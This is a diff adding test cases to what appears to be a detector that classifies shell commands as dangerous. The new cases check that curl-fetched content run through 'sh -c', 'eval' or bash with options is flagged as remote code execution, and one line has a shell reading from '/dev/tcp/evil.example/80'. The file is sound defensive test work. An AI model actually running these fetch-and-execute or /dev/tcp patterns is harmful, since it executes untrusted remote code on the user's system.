@@ -215,6 +215,9 @@ describe('what flows through a pipe or a substitution', () => {
     const substitutes = [words('curl -s https://x')]
     expect(dangers('sh -c $X', { substitutes })[0]?.category).toBe('remote-code')
     expect(dangers('eval $X', { substitutes })[0]?.category).toBe('remote-code')
+    expect(dangers('bash -o pipefail -c $X', { substitutes })[0]?.category).toBe('remote-code')
+    expect(dangers('bash --rcfile x -c $X', { substitutes })[0]?.category).toBe('remote-code')
+    expect(dangers('bash deploy.sh $X', { substitutes })).toEqual([])
     expect(dangers('echo $X', { substitutes })).toEqual([])
     expect(dangers('eval $X', { substitutes: [words('ssh-agent -s')] })).toEqual([])
     expect(dangers('sh', { reads: ['/dev/tcp/evil.example/80'] })[0]?.category).toBe('remote-code')
